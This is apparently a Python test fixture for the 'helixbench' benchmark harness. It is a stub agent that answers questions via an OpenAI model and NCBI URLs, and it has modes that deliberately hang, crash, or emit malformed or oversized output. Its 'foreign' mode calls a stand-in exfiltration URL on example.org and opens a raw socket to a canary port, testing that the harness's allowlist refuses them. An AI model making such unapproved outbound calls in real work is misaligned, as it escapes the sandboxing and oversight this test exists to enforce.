"""An agent written the way agents are: the openai client for its model and urllib to
NCBI's public URLs, nothing of helixbench in it. helixbench runs it unchanged.

It reads a question (JSON on stdin, or JSON lines with ``--long-lived``), fetches the
URLs its script file (``TEST_AGENT_SCRIPT``) lists for that question from the public
hosts, asks its model once, and prints ``{"answer": ...}``: the script's answer, or the
model's where the script has none. ``TEST_AGENT_MODE`` makes it misbehave: ``hang``,
``crash``, ``garbage``, ``deep`` (an answer of 10,000 nested JSON arrays), ``huge`` (a
5 MB answer), ``foreign`` (a host not on the allowlist, then a raw socket to
``TEST_AGENT_CANARY``), ``legacy`` (the model through the legacy completions API).
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
import urllib.request

import openai


def answer(question: dict, script: dict, client) -> str:
    mode = os.environ.get("TEST_AGENT_MODE", "")
    planned = script.get(question["question"], {})
    for url in planned.get("urls", []):
        with urllib.request.urlopen(url, timeout=30) as reply:
            reply.read()
    if mode == "foreign":
        try:
            urllib.request.urlopen("https://example.org/exfiltrate?x=1", timeout=5).read()
        except OSError as exc:
            print(f"refused as expected: {exc}", file=sys.stderr)
        try:
            socket.create_connection(("127.0.0.1", int(os.environ["TEST_AGENT_CANARY"])), 2)
        except OSError as exc:
            print(f"socket refused as expected: {exc}", file=sys.stderr)
    if mode == "legacy":
        completion = client.completions.create(
            model="code-davinci-002", prompt=question["question"], max_tokens=16, stop=["\n\n"]
        )
        said = completion.choices[0].text
    else:
        completion = client.chat.completions.create(
            model="gpt-4o-mini",
            messages=[{"role": "user", "content": question["question"]}],
            max_tokens=32,
        )
        said = completion.choices[0].message.content
    return planned.get("answer") or said


def main() -> None:
    mode = os.environ.get("TEST_AGENT_MODE", "")
    script_file = os.environ.get("TEST_AGENT_SCRIPT")
    script = json.load(open(script_file)) if script_file else {}
    client = openai.OpenAI(max_retries=0)  # OPENAI_BASE_URL, OPENAI_API_KEY: the gateway's
    if mode == "hang":
        time.sleep(600)
    if mode == "crash":
        raise RuntimeError("the agent fell over")
    if mode == "garbage":
        print("<html>not an answer</html>")
        return
    if mode == "deep":
        print('{"answer": ' + "[" * 10_000 + "]" * 10_000 + "}")
        return
    if mode == "huge":
        print(json.dumps({"answer": "BRCA1 " * 900_000}))
        return
    if "--long-lived" in sys.argv:
        for line in sys.stdin:
            question = json.loads(line)
            print(json.dumps({"id": question["id"], "answer": answer(question, script, client)}))
            sys.stdout.flush()
        return
    question = json.load(sys.stdin)
    print(json.dumps({"answer": answer(question, script, client)}))


if __name__ == "__main__":
    main()
